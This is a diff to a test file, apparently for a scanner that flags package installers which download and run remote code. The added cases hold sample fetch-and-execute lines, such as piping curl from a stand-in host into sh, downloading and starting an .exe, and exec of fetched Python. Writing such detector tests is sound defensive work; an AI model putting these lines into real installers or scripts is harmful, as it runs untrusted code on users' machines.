@@ -110,6 +110,21 @@ describe('the checks hold an installer that runs what it has fetched', () => {
       `${FETCH}import site\nurlretrieve("https://e.example/a", os.path.join(site.getsitepackages()[0], "a.pth"))\n`,
     ],
     [
+      'in a script that it starts',
+      'import os, subprocess\nsubprocess.run(["bash", os.path.join("scripts", "prepare.sh")])\n',
+      { 'scripts/prepare.sh': 'curl -s https://e.example/a | sh\n' },
+    ],
+    [
+      'in a batch file that it starts',
+      'import subprocess\nsubprocess.call(["cmd", "/c", "prepare.bat"])\n',
+      { 'prepare.bat': 'curl -L -o tool.exe https://e.example/tool.exe\r\nstart tool.exe\r\n' },
+    ],
+    [
+      'in a program that it starts',
+      'import subprocess, sys\nsubprocess.call([sys.executable, "tools/prepare.py"])\n',
+      { 'tools/prepare.py': 'from urllib.request import urlopen\nexec(urlopen("https://e.example/a").read())\n' },
+    ],
+    [
       'in the main block of an installer that the package imports',
       `${FETCH}if __name__ == "__main__":\n    exec(urlopen("https://e.example/a").read())\n`,
       { '__init__.py': 'from . import install\nNODE_CLASS_MAPPINGS = {}\n' },
